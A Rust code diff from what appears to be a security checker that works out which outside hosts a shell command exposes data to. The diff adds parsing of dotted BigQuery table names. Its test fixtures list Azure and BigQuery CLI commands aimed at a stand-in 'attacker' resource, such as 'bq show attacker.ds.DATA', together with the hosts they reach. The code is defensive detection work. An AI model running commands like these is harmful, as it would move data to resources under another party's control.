@@ -51,14 +51,16 @@ fn bucket(operand: &str) -> Option<&str> {
     operand.split('/').next()
 }
 
-/// `project:dataset.table`
+/// `project:dataset.table`, or all of it apart by dots.
 fn project(operand: &str) -> Option<&str> {
-    operand.split_once(':').map(|(project, _)| project)
+    let dotted = || operand.split_once('.').filter(|(_, rest)| rest.contains('.'));
+    operand.split_once(':').or_else(dotted).map(|(project, _)| project)
 }
 
 impl Judge<'_> {
     /// Notes what a reader tells to whom, and objects to what doesn't stand in the command.
     pub(super) fn exposes(&mut self, reader: &str, words: &[Word]) {
+        self.exposes_owners(reader, words);
         let Some(known) = READERS.iter().find(|known| is_or_below(reader, known.name)) else { return };
         self.exposed = true;
         let vague = |word: &&Word| word.pieces().iter().any(|piece| !matches!(piece, Piece::Exact(_)));
@@ -133,6 +135,7 @@ mod tests {
             ("az keyvault certificate show --vault-name attacker -n DATA", "attacker.vault.azure.net:443"),
             ("az acr repository show-tags -n attacker --repository DATA", "attacker.azurecr.io:443"),
             ("bq ls attacker:DATA", "attacker.bigquery.googleapis.com:443"),
+            ("bq show attacker.ds.DATA", "attacker.bigquery.googleapis.com:443"),
         ] {
             let hosts = judged(command).hosts;
             assert!(hosts.len() == 1 && hosts.contains(host), "{command}: {hosts:?}");
